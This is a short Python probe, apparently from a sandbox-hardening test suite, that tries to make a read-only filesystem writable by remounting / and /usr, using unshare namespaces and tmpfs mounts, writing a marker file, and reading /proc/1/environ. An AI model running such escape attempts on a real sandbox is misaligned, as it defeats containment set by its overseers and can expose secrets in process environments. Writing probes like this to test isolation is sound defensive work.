# uses: bypass
# Make the filesystem writable again: remount, new user namespace + mount, chroot, unshare tool.
import subprocess
t = CFG["targets"][0]
for cmd in (["mount", "-o", "remount,rw", "/"], ["mount", "-o", "remount,rw", "/usr"],
            ["unshare", "-r", "sh", "-c", f"mount -o remount,rw / ; echo x > {t}; cat /proc/1/environ"],
            ["unshare", "-rm", "sh", "-c", f"mount -t tmpfs x /usr && echo ok; echo x > {t}"],
            ["sh", "-c", "touch /usr/dpad_hostile && echo WROTE"]):
    try:
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=3)
        print(cmd[0], r.returncode, r.stdout, r.stderr)
    except Exception as e:
        print("no", cmd, e)
